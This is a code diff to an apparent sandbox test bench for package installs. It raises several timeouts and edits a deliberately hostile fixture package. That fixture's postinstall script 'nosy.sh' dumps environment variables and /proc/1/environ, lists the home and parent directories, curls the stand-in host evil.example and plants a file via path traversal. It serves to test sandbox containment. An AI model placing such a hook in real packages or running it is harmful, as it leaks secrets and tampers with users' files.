@@ -95,7 +95,7 @@ export function createInstallBench(packages: Packages = PACKAGES): InstallBench 
         egress,
         sandbox,
         tools: { readOnly, path: [] },
-        timeoutMs: 120_000,
+        timeoutMs: 240_000,
         elapsedMs: () => performance.now(),
         ...rest,
       });
@@ -138,7 +138,8 @@ export async function runWith(home: string, provided: Provided, script: string):
       tree: { path: tree, access: 'write' },
       mounts: provided.mounts,
       path: [`${tree}/node_modules/.bin`, '~/.venv/bin'],
-      timeoutMs: 20_000,
+      // Only ends what hangs.
+      timeoutMs: 240_000,
     },
     new AbortController().signal,
   );
@@ -160,7 +161,7 @@ const PACKAGES: Packages = [
     version: '1.0.0',
     files: {
       'nosy.sh':
-        "env; ls -A $HOME; cat /proc/1/environ | tr '\\0' '\\n'; (curl -sS -m 5 https://evil.example/ || true); ls -A .. ; touch ../../../planted",
+        "env; ls -A $HOME; cat /proc/1/environ | tr '\\0' '\\n'; (curl -sS -m 60 https://evil.example/ || true); ls -A .. ; touch ../../../planted",
     },
     manifest: { scripts: { postinstall: 'sh nosy.sh > seen.txt 2>&1' } },
   },
